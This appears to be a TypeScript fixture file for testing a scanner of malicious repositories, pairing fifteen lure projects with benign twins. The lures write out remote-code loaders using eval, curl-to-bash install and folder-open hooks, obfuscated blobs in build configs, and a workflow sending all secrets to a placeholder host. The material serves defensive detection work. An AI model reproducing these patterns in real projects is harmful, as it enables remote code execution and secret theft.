// Inert fixtures: shapes of documented lures (T11–T25), reserved hosts, payloads that do nothing.
import type { TechniqueFixture } from './fixture.ts';
import { obfuscatedLine } from './shapes.ts';

const LOADER =
  "const axios = require('axios');\naxios.get('https://stage.invalid/api').then((res) => new Function('require', res.data)(require));\n";
const HONEST_SERVER =
  "const express = require('express');\nconst app = express();\napp.get('/', (req, res) => res.send('ok'));\napp.listen(3000);\n";
const rpc = (i: number): string =>
  `async function call${i}Contract() {\n  const res = await axios.get('https://rpc${i}.example/v1').catch((err) => console.log(err.response.data));\n  return null;\n}\n`;

const fixtures: readonly TechniqueFixture[] = [
  {
    id: 'T11',
    title: 'prepare starts the server in the background on any system',
    lure: {
      files: {
        'package.json':
          '{"name":"app","scripts":{"prepare":"start /b node server || nohup node server &","start":"react-scripts start"}}',
        'server/index.js': LOADER,
      },
    },
    expect: { level: 'malicious', file: 'package.json' },
    twin: {
      files: {
        'package.json':
          '{"name":"app","scripts":{"prepare":"husky && npm run build","build":"tsc","start":"node server"}}',
        'server/index.js': HONEST_SERVER,
      },
      why: 'hooks and a build',
    },
  },
  {
    id: 'T12',
    title: 'preinstall pipes a download into bash',
    lure: {
      files: {
        'package.json':
          '{"name":"app","scripts":{"preinstall":"curl -ks https://pre.invalid/x.sh | bash","postinstall":"npm run dev","dev":"node index.js"}}',
        'index.js': "console.log('up');\n",
      },
    },
    expect: { level: 'malicious', file: 'package.json', indicators: ['pre.invalid'] },
    twin: {
      files: {
        'package.json':
          '{"name":"native","scripts":{"install":"node-gyp-build","postinstall":"patch-package && prisma generate","prebuild":"rimraf dist"},"dependencies":{"node-gyp-build":"4"}}',
        'binding.gyp': "{ 'targets': [{ 'target_name': 'x', 'sources': ['x.c'] }] }",
      },
      why: 'native build and code generation',
    },
  },
  {
    id: 'T13',
    title: 'every script first runs the server',
    lure: {
      files: {
        'package.json':
          '{"name":"app","scripts":{"start":"node server/server.js | react-scripts start","build":"node server/server.js | react-scripts build","test":"node server/server.js | react-scripts test","eject":"node server/server.js | react-scripts eject"}}',
        'server/server.js': LOADER,
      },
    },
    expect: { level: 'malicious', file: 'package.json' },
    twin: {
      files: {
        'package.json':
          '{"name":"app","scripts":{"start":"concurrently \\"node server/server.js\\" \\"react-scripts start\\"","build":"react-scripts build","test":"react-scripts test","eject":"react-scripts eject"}}',
        'server/server.js': HONEST_SERVER,
      },
      why: 'back and front end side by side',
    },
  },
  {
    id: 'T14',
    title: 'loader called at import, four modules deep',
    lure: {
      files: {
        'package.json': '{"name":"app","scripts":{"start":"node server.js"}}',
        'server.js':
          "require('./config/loadEnv');\nconst app = require('express')();\napp.use('/api', require('./routes'));\napp.listen(3000);\n",
        'config/loadEnv.js': "require('dotenv').config();\n",
        'routes/index.js':
          "const router = require('express').Router();\nrouter.use('/auth', require('./api/auth'));\nmodule.exports = router;\n",
        'routes/api/auth.js':
          "const { validateApiKey } = require('../../controllers/auth');\nvalidateApiKey();\nmodule.exports = require('express').Router();\n",
        'controllers/auth.js':
          "const axios = require('axios');\nexports.validateApiKey = async function () {\n  const response = await axios.get('https://deep-import.invalid/api/identity/1');\n  const executor = new Function('require', response.data);\n  executor(require);\n};\n",
      },
    },
    expect: {
      level: 'malicious',
      file: 'controllers/auth.js',
      via: ['package.json', 'server.js', 'routes/index.js', 'routes/api/auth.js', 'controllers/auth.js'],
      indicators: ['deep-import.invalid'],
    },
    twin: {
      files: {
        'package.json': '{"name":"app","scripts":{"start":"node server.js"}}',
        'server.js': "const { connect } = require('./db');\nconnect();\nrequire('./routes')(require('express')());\n",
        'db.js':
          "const mongoose = require('mongoose');\nexports.connect = () => mongoose.connect(process.env.MONGO_URI);\n",
        'routes.js': "module.exports = (app) => app.get('/', (req, res) => res.json({}));\n",
      },
      why: 'a database connection at start',
    },
  },
  {
    id: 'T15',
    title: 'one loader among sixteen decoys',
    lure: {
      files: {
        'package.json': '{"name":"app","scripts":{"start":"node server.js"}}',
        'server.js': "const auth = require('./middleware/auth');\nrequire('express')().use(auth);\n",
        'middleware/auth.js': `const axios = require('axios');\n${Array.from({ length: 15 }, (_, i) => rpc(i)).join('')}async function callHashedContract() {\n  const res = await axios.get('https://decoyed.invalid/api');\n  eval(res.data);\n}\n(async () => { await callHashedContract(); })();\nmodule.exports = (req, res, next) => next();\n`,
      },
    },
    expect: { level: 'malicious', file: 'middleware/auth.js', indicators: ['decoyed.invalid'] },
    twin: {
      files: {
        'package.json': '{"name":"app","scripts":{"start":"node server.js"}}',
        'server.js': "const chains = require('./chains');\nchains.all().then(console.log);\n",
        'chains.js': `const axios = require('axios');\n${Array.from({ length: 15 }, (_, i) => rpc(i)).join('')}exports.all = () => Promise.all([${Array.from({ length: 15 }, (_, i) => `call${i}Contract()`).join(', ')}]);\n`,
      },
      why: 'many chains asked in earnest',
    },
  },
  {
    id: 'T16',
    title: 'payload after the export of a build config',
    lure: {
      files: {
        'package.json': '{"name":"app","scripts":{"build":"tailwindcss -o out.css"}}',
        'tailwind.config.js': `module.exports = {\n  content: ['./src/**/*.html'],\n  plugins: [],\n};\n\n${obfuscatedLine(7_000, 5)}\n`,
      },
    },
    expect: { level: 'malicious', file: 'tailwind.config.js' },
    twin: {
      files: {
        'package.json': '{"name":"app","scripts":{"build":"tailwindcss -o out.css"}}',
        'tailwind.config.js':
          "module.exports = withOpacity({ content: ['./src/**/*.html'] });\n\nfunction withOpacity(config) {\n  return { ...config, theme: { extend: {} } };\n}\n",
      },
      why: 'a helper after the export',
    },
  },
  {
    id: 'T17',
    title: 'blob before a small config',
    lure: {
      files: {
        'package.json': '{"name":"app","scripts":{"dev":"next dev"},"dependencies":{"next":"14"}}',
        'next.config.js': `${obfuscatedLine(60_000, 9)}\nmodule.exports = { images: { domains: ['cdn.example'] } };\n`,
      },
    },
    expect: { level: 'malicious', file: 'next.config.js', via: ['next.config.js'] },
    twin: {
      files: {
        'package.json': '{"name":"app","scripts":{"dev":"next dev"}}',
        'next.config.js': `const icon = 'data:image/png;base64,${'iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB'.repeat(300)}';\nmodule.exports = { env: { ICON: icon } };\n`,
      },
      why: 'an inlined image',
    },
  },
  {
    id: 'T18',
    title: 'config requires a fake plugin from public',
    lure: {
      files: {
        'package.json': '{"name":"app","scripts":{"dev":"vite"}}',
        'vite.config.js':
          "const { defineConfig } = require('vite');\nrequire('./public/vite.cookie');\nmodule.exports = defineConfig({});\n",
        'public/vite.cookie': LOADER,
      },
    },
    expect: { level: 'malicious', file: 'vite.config.js', indicators: ['stage.invalid'] },
    twin: {
      files: {
        'package.json': '{"name":"app","scripts":{"dev":"vite"}}',
        'vite.config.js':
          "const { defineConfig } = require('vite');\nconst pkg = require('./package.json');\nmodule.exports = defineConfig({ define: { VERSION: JSON.stringify(pkg.version) } });\n",
      },
      why: 'a config that reads package.json',
    },
  },
  {
    id: 'T19',
    title: 'config calls a malicious dependency',
    lure: {
      files: {
        'package.json':
          '{"name":"app","scripts":{"dev":"vite"},"dependencies":{"cdn-icon-fetch":"1.0.0","react":"18"}}',
        'vite.config.js': "import { fetchIcon } from 'cdn-icon-fetch';\nfetchIcon('77');\nexport default {};\n",
      },
    },
    expect: { level: 'malicious', file: 'package.json' },
    twin: {
      files: {
        'package.json':
          '{"name":"app","scripts":{"dev":"vite"},"devDependencies":{"vite":"5","vite-plugin-pwa":"0.17"}}',
        'vite.config.js': "import { VitePWA } from 'vite-plugin-pwa';\nexport default { plugins: [VitePWA()] };\n",
      },
      why: 'a plugin',
    },
  },
  {
    id: 'T20',
    title: 'Terraform lock file with a look-alike registry',
    lure: {
      files: {
        'main.tf':
          'terraform {\n  required_providers {\n    aws = {\n      source = "registry.terraforrm.invalid/hashicorp/aws"\n    }\n  }\n}\n',
        '.terraform.lock.hcl':
          'provider "registry.terraforrm.invalid/hashicorp/aws" {\n  version = "5.0.0"\n  hashes = [\n    "h1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=",\n  ]\n}\n',
      },
    },
    expect: { level: 'suspicious', file: '.terraform.lock.hcl' },
    twin: {
      files: {
        'main.tf': 'terraform {\n  required_providers {\n    aws = { source = "hashicorp/aws" }\n  }\n}\n',
        '.terraform.lock.hcl':
          'provider "registry.terraform.io/hashicorp/aws" {\n  version = "5.0.0"\n}\nprovider "registry.opentofu.org/hashicorp/random" {\n  version = "3.6.0"\n}\n',
      },
      why: 'the public registries',
    },
  },
  {
    id: 'T21',
    title: 'an extension is dropped into the editor and the traces removed',
    lure: {
      files: {
        'package.json': '{"name":"app"}',
        '.vscode/tasks.json':
          '{"version":"2.0.0","tasks":[{"label":"update","type":"shell","command":"sh vendor/run-update.sh","presentation":{"reveal":"never"},"runOptions":{"runOn":"folderOpen"}}]}',
        'vendor/run-update.sh':
          '#!/bin/sh\nfor editor in code cursor codium; do command -v $editor >/dev/null && $editor --install-extension vendor/google-update-support.vsix --force >/dev/null 2>&1; done\nrm -rf vendor .vscode\n',
        'vendor/google-update-support.vsix': new Uint8Array([
          0x50, 0x4b, 5, 6, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
        ]),
      },
    },
    expect: { level: 'malicious', file: 'vendor/run-update.sh', via: ['.vscode/tasks.json', 'vendor/run-update.sh'] },
    twin: {
      files: {
        'package.json':
          '{"name":"my-extension","engines":{"vscode":"^1.90.0"},"main":"./out/extension.js","activationEvents":["onCommand:hello"],"scripts":{"package":"vsce package","try":"code --install-extension my-extension-0.1.0.vsix"}}',
        'out/extension.js': 'exports.activate = () => {};\n',
      },
      why: 'the author of an extension installs his own build',
    },
  },
  {
    id: 'T22',
    title: 'hidden VBScript launcher from a folder-open task',
    lure: {
      files: {
        'package.json': '{"name":"app"}',
        '.vscode/tasks.json':
          '{"version":"2.0.0","tasks":[{"label":"update","type":"shell","windows":{"command":"wscript //B //Nologo vendor/run-update-hidden-launch.vbs"},"runOptions":{"runOn":"folderOpen"}}]}',
        'vendor/run-update-hidden-launch.vbs':
          'Set s = CreateObject("WScript.Shell")\ns.Run "cmd /c node vendor\\update.js", 0, False\n',
        'vendor/update.js': LOADER,
      },
    },
    expect: { level: 'malicious', file: '.vscode/tasks.json' },
    twin: {
      files: {
        'package.json': '{"name":"app","scripts":{"shortcut":"cscript //Nologo tools/shortcut.vbs"}}',
        'tools/shortcut.vbs':
          'Set s = CreateObject("WScript.Shell")\nSet l = s.CreateShortcut("App.lnk")\nl.TargetPath = "app.exe"\nl.Save\n',
      },
      why: 'a script that makes a shortcut when asked',
    },
  },
  {
    id: 'T23',
    title: 'the same task for an editor that does not ask',
    lure: {
      files: {
        'package.json': '{"name":"app"}',
        '.cursorrules': 'Prefer functional components.\n',
        '.vscode/tasks.json':
          '{"version":"2.0.0","tasks":[{"label":"setup","type":"shell","command":"curl -fsSL https://cursor-setup.invalid/i | bash","runOptions":{"runOn":"folderOpen"}}]}',
      },
    },
    expect: { level: 'malicious', file: '.vscode/tasks.json', tradecraft: ['T01', 'T23'] },
    twin: {
      files: {
        'package.json': '{"name":"app"}',
        '.cursorrules': 'Prefer functional components.\nRun `npm test` before you answer.\n',
        '.cursor/mcp.json':
          '{"mcpServers":{"docs":{"command":"npx","args":["-y","@modelcontextprotocol/server-filesystem","docs"]}}}',
      },
      why: 'rules for an assistant and a well-known server',
    },
  },
  {
    id: 'T24',
    title: 'README asks to disable Docker and protection',
    lure: {
      files: {
        'README.md':
          '# Setup\n\nImportant: do not use Docker or a virtual machine. Please disable Docker and your antivirus before running the project natively, and avoid VPNs.\n\nRun `npm i && npm start`.\n',
        'package.json': '{"name":"app","scripts":{"start":"node index.js"}}',
        'index.js': "console.log('hi');\n",
      },
    },
    expect: { level: 'notice', file: 'README.md' },
    twin: {
      files: {
        'README.md': '# Setup\n\nWith Docker: `docker compose up`. Without Docker: `npm i && npm start`.\n',
        'package.json': '{"name":"app","scripts":{"start":"node index.js"}}',
        'index.js': "console.log('hi');\n",
      },
      why: 'both ways described',
    },
  },
  {
    id: 'T25',
    title: 'self-propagating preinstall and a planted workflow',
    lure: {
      files: {
        'package.json': '{"name":"app","scripts":{"preinstall":"node setup_bun.js"}}',
        'setup_bun.js':
          "const { execSync } = require('child_process');\nexecSync('curl -fsSL https://bun-setup.invalid/install | bash', { stdio: 'ignore' });\n",
        '.github/workflows/discussion.yaml':
          'on: discussion\njobs:\n  process:\n    runs-on: self-hosted\n    env:\n      RUNNER_TRACKING_ID: 0\n    steps:\n      - run: echo ${{ github.event.discussion.body }}\n      - run: curl -d "${{ toJSON(secrets) }}" https://exfil.invalid/x\n',
      },
    },
    expect: {
      level: 'malicious',
      file: 'setup_bun.js',
      indicators: ['bun-setup.invalid'],
      tradecraft: ['T25', 'T12', 'T01', 'T35'],
    },
    twin: {
      files: {
        'package.json': '{"name":"app","scripts":{"preinstall":"npx only-allow pnpm"}}',
        '.github/workflows/ci.yml':
          'on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: curl -fsSL https://bun.sh/install | bash\n      - run: bun test\n        env:\n          TOKEN: ${{ secrets.TOKEN }}\n',
      },
      why: 'an installer in CI, one secret for one step',
    },
  },
];
export default fixtures;
